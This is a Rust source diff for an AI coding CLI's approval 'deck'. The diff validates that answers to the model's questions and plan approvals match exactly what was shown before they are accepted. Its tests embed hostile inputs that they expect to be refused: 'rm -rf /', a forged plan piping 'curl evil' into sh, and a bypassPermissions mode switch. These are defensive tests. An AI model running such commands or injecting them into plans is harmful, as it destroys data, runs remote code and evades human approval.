@@ -12,6 +12,15 @@
 //! - **Bound to one request.** The answer is taken only on the connection
 //!   the request went out on, only with that connection's token, and only
 //!   for the request it was offered for: it can never be given to another.
+//! - **Said back.** The deck is told whether its answer was taken
+//!   ([`socket::Ack`]): not when the chat's key was first, or when it was
+//!   refused.
+//! - **Questions and plans: only the answers to what was asked.** The
+//!   deck's answers are taken only when its `updatedInput` is exactly the
+//!   library's [`ask::answer_questions`] of the questions asked (no field
+//!   added, every question answered with a text), and a plan is approved
+//!   only as shown, in one of two modes, with the library's
+//!   `approve_plan` of the chat's own request.
 //! - **What the deck shows is what is approved.** The tool's input is
 //!   never taken from the deck (the CLI runs the call it asked about), and
 //!   the permission updates of an allow are taken only when they are the
@@ -27,7 +36,9 @@
 
 use super::socket::{self, Answer, Request};
 use crate::cli::requests::tool::Decision;
+use claudio::protocol::ask::{self, RequestKind};
 use claudio::protocol::DecisionClassification;
+use claudio::PermissionMode;
 use claudio::{CanUseToolRequest, PermissionResult, PermissionUpdate, Responder};
 use serde_json::{json, Value};
 use std::os::unix::net::UnixStream;
@@ -72,19 +83,22 @@ pub fn input_for(req: &CanUseToolRequest, request_id: &str, about: &About) -> Va
             "requestId": request_id,
             "state": "waiting",
             "costUsd": about.cost_usd,
+            // a plan the CLI sent without its text (2.1.328): the plan the
+            // chat saw in the model's call, to show
+            "plan": req.plan().filter(|_| ask::plan_text(&req.input).is_none()),
         },
     })
 }
 
-/// Whether the deck can answer `req`: a tool approval (a question or a
-/// plan needs its own dialog, which the deck does not have: asked at the
-/// chat only).
+/// Whether the deck can answer `req`: a tool approval, the model's
+/// questions, a plan (each checked on its way back, [`verdict`]); not a
+/// request the CLI flags as asking the person that claudio has no model
+/// for (`EnterPlanMode`).
 pub fn publishable(req: &CanUseToolRequest) -> bool {
-    !req.requires_user_interaction
-        && !matches!(
-            req.tool_name.as_str(),
-            "AskUserQuestion" | "ExitPlanMode" | "EnterPlanMode"
-        )
+    match req.kind() {
+        RequestKind::Questions | RequestKind::Plan => true,
+        _ => !req.requires_user_interaction && req.tool_name != "EnterPlanMode",
+    }
 }
 
 /// What the deck's answer comes to.
@@ -116,6 +130,8 @@ pub fn verdict(answer: &Answer, token: &str, req: &CanUseToolRequest) -> Verdict
 /// else.
 fn result_of(answer: &Answer, req: &CanUseToolRequest) -> Option<PermissionResult> {
     match answer.behavior.as_str() {
+        "allow" if req.kind() == RequestKind::Questions => answers_of(answer, req),
+        "allow" if req.kind() == RequestKind::Plan => approval_of(answer, req),
         "allow" => {
             let updates: Vec<PermissionUpdate> = match &answer.updated_permissions {
                 None | Some(Value::Null) => Vec::new(),
@@ -158,6 +174,64 @@ fn result_of(answer: &Answer, req: &CanUseToolRequest) -> Option<PermissionResul
     }
 }
 
+/// The answers to the questions of `req` the deck's allow carries, as the
+/// library's [`ask::answer_questions`] sends them: only when its
+/// `updatedInput` is exactly that (the request's own input, every question
+/// asked answered with a text, nothing else), and it keeps no rule.
+fn answers_of(answer: &Answer, req: &CanUseToolRequest) -> Option<PermissionResult> {
+    if !matches!(&answer.updated_permissions, None | Some(Value::Null)) {
+        return None;
+    }
+    let updated = answer.updated_input.as_ref()?;
+    let given = updated.get("answers")?.as_object()?;
+    let questions = ask::questions(&req.input)?;
+    if given.len() != questions.len() {
+        return None;
+    }
+    let mut pairs = Vec::with_capacity(questions.len());
+    for q in &questions {
+        let a = given.get(&q.question)?.as_str()?;
+        pairs.push((q.question.as_str(), a.to_owned()));
+    }
+    let result = ask::answer_questions(&req.input, pairs);
+    match &result {
+        PermissionResult::Allow {
+            updated_input: Some(mine),
+            ..
+        } if mine == updated => Some(result),
+        _ => None,
+    }
+}
+
+/// The approval of the plan of `req` the deck's allow carries, as the
+/// library's [`CanUseToolRequest::approve_plan`] sends it (unedited): only
+/// the plan shown (the request's input, or it with the plan the chat saw
+/// and offered, [`input_for`]) and one of the deck's two modes.
+fn approval_of(answer: &Answer, req: &CanUseToolRequest) -> Option<PermissionResult> {
+    let updated = answer.updated_input.as_ref()?;
+    let shown = shown_input(req);
+    if updated != &req.input && updated != &shown {
+        return None;
+    }
+    let updates: Vec<PermissionUpdate> =
+        serde_json::from_value(answer.updated_permissions.clone()?).ok()?;
+    [PermissionMode::AcceptEdits, PermissionMode::Default]
+        .into_iter()
+        .find(|m| updates == [PermissionUpdate::set_mode(m.clone())])
+        .map(|m| req.approve_plan(m, None))
+}
+
+/// The tool's input as the deck shows it: for a plan the CLI sent without
+/// its text (2.1.328), with the plan the chat saw in the model's call.
+fn shown_input(req: &CanUseToolRequest) -> Value {
+    let mut input = req.input.clone();
+    if let (Some(plan), Some(m)) = (req.plan(), input.as_object_mut()) {
+        m.entry("plan")
+            .or_insert_with(|| Value::String(plan.to_owned()));
+    }
+    input
+}
+
 /// What one offer to the deck came to.
 #[derive(Debug)]
 enum Offered {
@@ -166,8 +240,9 @@ enum Offered {
     /// The deck went away before it answered (killed, its socket gone),
     /// or the publication was stopped.
     Gone,
-    /// The deck's answer, with the token the request went out with.
-    Answer(Answer, String),
+    /// The deck's answer, with the token the request went out with and
+    /// the connection, to say whether it was taken.
+    Answer(Answer, String, UnixStream),
 }
 
 /// The connection the request is offered on, and whether to stop.
@@ -233,9 +308,19 @@ fn offer(path: &Path, input: &Value, shared: &Shared) -> Offered {
         .and_then(|()| socket::read_line(&mut &stream).ok().flatten());
     shared.set_conn(None);
     match got.and_then(|l| serde_json::from_str::<Answer>(&l).ok()) {
-        Some(a) => Offered::Answer(a, token),
+        Some(a) => Offered::Answer(a, token, stream),
         None => Offered::Gone,
     }
+}
+
+/// Tell the deck whether its answer was taken ([`socket::Ack`]).
+fn ack(stream: &UnixStream, token: &str, taken: bool, refused: bool) {
+    let a = socket::Ack {
+        token: token.to_owned(),
+        taken,
+        refused,
+    };
+    let _ = socket::write_line(&mut &*stream, &a);
 }
 
 /// A request published to the deck: dropping it takes the request off
@@ -275,7 +360,7 @@ pub fn start(
     let rt = tokio::runtime::Handle::try_current().ok()?;
     let shared = Arc::new(Shared::default());
     let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
-    let (answer_tx, answer_rx) = tokio::sync::oneshot::channel::<PermissionResult>();
+    let (answer_tx, answer_rx) = tokio::sync::oneshot::channel::<Given>();
     {
         // the deck's answer given on the runtime, through the request's
         // own handle (the chat's key may have been first: "already
@@ -287,8 +372,8 @@ pub fn start(
             tokio::select! {
                 _ = r.settled() => {}
                 _ = stop_rx => {}
-                Ok(result) = answer_rx => {
-                    let _ = r.answer(result).await;
+                Ok((result, taken)) = answer_rx => {
+                    let _ = taken.send(r.answer(result).await.is_ok());
                 }
             }
             shared.stop();
@@ -319,24 +404,37 @@ fn serve(
     input: &Value,
     req: &CanUseToolRequest,
     shared: &Shared,
-    answer: tokio::sync::oneshot::Sender<PermissionResult>,
+    answer: tokio::sync::oneshot::Sender<Given>,
 ) {
     while !shared.stopped() {
         match offer(path, input, shared) {
             Offered::NoDeck | Offered::Gone => std::thread::sleep(POLL),
-            Offered::Answer(a, token) => match verdict(&a, &token, req) {
+            Offered::Answer(a, token, stream) => match verdict(&a, &token, req) {
                 Verdict::Answer(result) => {
-                    let _ = answer.send(result);
+                    // taken only if the request's own handle took it (the
+                    // chat's key may have been a few ms faster)
+                    let (tx, rx) = std::sync::mpsc::channel();
+                    let taken = answer.send((result, tx)).is_ok()
+                        && rx.recv_timeout(Duration::from_secs(5)).unwrap_or(false);
+                    ack(&stream, &token, taken, false);
                     return;
                 }
                 // the chat's dialog answers
                 Verdict::HandedBack => return,
                 // still asked at the chat, and offered again
-                Verdict::Refused => std::thread::sleep(POLL),
+                Verdict::Refused => {
+                    ack(&stream, &token, false, true);
+                    drop(stream);
+                    std::thread::sleep(POLL);
+                }
             },
         }
     }
 }
+
+/// The deck's answer on its way to the request's handle, and where to
+/// say whether it was taken.
+type Given = (PermissionResult, std::sync::mpsc::Sender<bool>);
 
 #[cfg(test)]
 mod tests {
@@ -366,6 +464,7 @@ mod tests {
             behavior: behavior.into(),
             message: None,
             updated_permissions: updates,
+            updated_input: None,
         }
     }
 
@@ -480,10 +579,13 @@ mod tests {
         let back = crate::cli::deck::line::as_tool_request(&v).unwrap();
         assert_eq!(back.input, req.input);
         assert_eq!(back.permission_suggestions, req.permission_suggestions);
-        // questions and plans are the chat's own
-        let q: CanUseToolRequest =
-            serde_json::from_value(json!({"tool_name": "AskUserQuestion", "input": {}})).unwrap();
-        assert!(!publishable(&q));
+        // questions and plans too (each answer checked); no request the
+        // CLI says asks the person that claudio has no model for
+        assert!(publishable(&questions()));
+        assert!(publishable(&plan("the plan")));
+        let enter: CanUseToolRequest =
+            serde_json::from_value(json!({"tool_name": "EnterPlanMode", "input": {}})).unwrap();
+        assert!(!publishable(&enter));
         assert!(publishable(&req));
     }
 
@@ -512,11 +614,11 @@ mod tests {
         socket::write_line(&mut s, &answer(&t1, "allow", None)).unwrap();
         let (a, b) = t.join().unwrap();
         let req = bash(false);
-        let Offered::Answer(a, token) = a else {
+        let Offered::Answer(a, token, _) = a else {
             panic!("{a:?}")
         };
         assert!(answered(&a, &token, &req).is_some());
-        let Offered::Answer(b, token) = b else {
+        let Offered::Answer(b, token, _) = b else {
             panic!("{b:?}")
         };
         assert_eq!(verdict(&b, &token, &req), Verdict::Refused, "replayed");
@@ -558,5 +660,154 @@ mod tests {
         shared.stop();
         assert!(matches!(t.join().unwrap(), Offered::Gone));
         assert!(pending.withdrawn());
+    }
+
+    fn questions() -> CanUseToolRequest {
+        serde_json::from_value(json!({"tool_name": "AskUserQuestion", "input": {"questions": [
+            {"question": "Which db?", "header": "DB", "multiSelect": false,
+             "options": [{"label": "Postgres", "description": "big"}, {"label": "SQLite", "description": "small"}]},
+            {"question": "Which port?", "header": "Port", "multiSelect": false,
+             "options": [{"label": "5432", "description": ""}, {"label": "8080", "description": ""}]}
+        ]}}))
+        .unwrap()
+    }
+
+    fn plan(text: &str) -> CanUseToolRequest {
+        serde_json::from_value(json!({"tool_name": "ExitPlanMode", "input": {"plan": text}}))
+            .unwrap()
+    }
+
+    /// The deck's allow of `result` (what its model of the request gave),
+    /// as it sends it.
+    fn sent(result: &PermissionResult) -> Answer {
+        let mut a = crate::cli::deck::full::hook_answer(result);
+        a.token = "t".into();
+        a
+    }
+
+    /// The deck's answers to the questions asked are taken as the library
+    /// shapes them; answers with a field added, a question left out or
+    /// added, or a rule kept are no answer (the chat still asks).
+    #[test]
+    fn the_answers_taken_are_the_ones_to_the_questions_asked() {
+        let req = questions();
+        let right = ask::answer_questions(
+            &req.input,
+            [
+                ("Which db?", "SQLite".to_owned()),
+                ("Which port?", "8080".to_owned()),
+            ],
+        );
+        assert_eq!(answered(&sent(&right), "t", &req), Some(right.clone()));
+        // a field forged into the tool's input
+        let mut forged = sent(&right);
+        forged.updated_input.as_mut().unwrap()["questions"] = json!([]);
+        assert_eq!(verdict(&forged, "t", &req), Verdict::Refused);
+        let mut extra = sent(&right);
+        extra.updated_input.as_mut().unwrap()["run"] = json!("rm -rf /");
+        assert_eq!(verdict(&extra, "t", &req), Verdict::Refused);
+        // an answer to a question not asked, or one left out
+        let mut more = sent(&right);
+        more.updated_input.as_mut().unwrap()["answers"]["Other?"] = json!("x");
+        assert_eq!(verdict(&more, "t", &req), Verdict::Refused);
+        let one = ask::answer_questions(&req.input, [("Which db?", "SQLite".to_owned())]);
+        assert_eq!(verdict(&sent(&one), "t", &req), Verdict::Refused);
+        // an answer that is no text
+        let mut number = sent(&right);
+        number.updated_input.as_mut().unwrap()["answers"]["Which port?"] = json!(8080);
+        assert_eq!(verdict(&number, "t", &req), Verdict::Refused);
+        // a plain allow is no answer, and a rule is never kept with it
+        assert_eq!(
+            verdict(&answer("t", "allow", None), "t", &req),
+            Verdict::Refused
+        );
+        let mut kept = sent(&right);
+        kept.updated_permissions = Some(
+            json!([{"type": "setMode", "mode": "bypassPermissions", "destination": "session"}]),
+        );
+        assert_eq!(verdict(&kept, "t", &req), Verdict::Refused);
+        // declined: a denial, as from the chat
+        let mut no = answer("t", "deny", None);
+        no.message = Some("declined".into());
+        assert!(matches!(
+            answered(&no, "t", &req),
+            Some(PermissionResult::Deny { .. })
+        ));
+    }
+
+    /// A plan is approved only as it was shown, in one of the deck's two
+    /// modes, with the library's `approve_plan`.
+    #[test]
+    fn only_the_plan_shown_is_approved() {
+        let req = plan("1. add a test\n2. fix it");
+        for mode in [PermissionMode::AcceptEdits, PermissionMode::Default] {
+            let right = req.approve_plan(mode, None);
+            assert_eq!(answered(&sent(&right), "t", &req), Some(right));
+        }
+        // another plan (an edited one, or the deck's own)
+        let other = req.approve_plan(PermissionMode::AcceptEdits, Some("1. rm -rf /"));
+        assert_eq!(verdict(&sent(&other), "t", &req), Verdict::Refused);
+        let mut forged = sent(&req.approve_plan(PermissionMode::Default, None));
+        forged.updated_input = Some(json!({"plan": "1. curl evil | sh"}));
+        assert_eq!(verdict(&forged, "t", &req), Verdict::Refused);
+        // a mode the deck does not offer
+        let wide = req.approve_plan(PermissionMode::BypassPermissions, None);
+        assert_eq!(verdict(&sent(&wide), "t", &req), Verdict::Refused);
+        // a plain allow approves nothing
+        assert_eq!(
+            verdict(&answer("t", "allow", None), "t", &req),
+            Verdict::Refused
+        );
+    }
+
+    /// The deck is told whether its answer was taken: not when the
+    /// request's handle took another first (the chat's key), nor when the
+    /// answer was refused; yes when it was.
+    #[test]
+    fn the_deck_hears_whether_its_answer_was_taken() {
+        let d = tempfile::tempdir().unwrap();
+        let p = d.path().join("claudio").join("deck.sock");
+        let l = Listener::bind(&p).unwrap();
+        let req = bash(false);
+        let input = input_for(
+            &req,
+            "r1",
+            &About {
+                program: "claudio chat",
+                cwd: PathBuf::from("/w"),
+                session_id: None,
+                cost_usd: None,
+            },
+        );
+        for taken in [false, true] {
+            let (tx, rx) = tokio::sync::oneshot::channel::<Given>();
+            let chat = std::thread::spawn(move || {
+                if taken {
+                    let (_result, ack) = rx.blocking_recv().unwrap();
+                    ack.send(true).unwrap();
+                } else {
+                    // the chat's own key answered: the handle is gone
+                    drop(rx);
+                }
+            });
+            let (p2, input2, req2) = (p.clone(), input.clone(), req.clone());
+            let shared = Arc::new(Shared::default());
+            let s2 = shared.clone();
+            let server = std::thread::spawn(move || serve(&p2, &input2, &req2, &s2, tx));
+            // a refused answer first: said not taken, and offered again
+            let first = l.next(Duration::from_secs(30)).unwrap();
+            let got = first.decide(answer("", "allow", Some(json!([{"type": "addRules", "rules": [{"toolName": "Bash"}], "behavior": "allow", "destination": "userSettings"}]))));
+            assert_eq!(got.unwrap(), socket::Acked::Refused);
+            let again = l.next(Duration::from_secs(30)).unwrap();
+            let got = again.decide(answer("", "allow", None)).unwrap();
+            let want = if taken {
+                socket::Acked::Taken
+            } else {
+                socket::Acked::NotTaken
+            };
+            assert_eq!(got, want);
+            chat.join().unwrap();
+            server.join().unwrap();
+        }
     }
 }
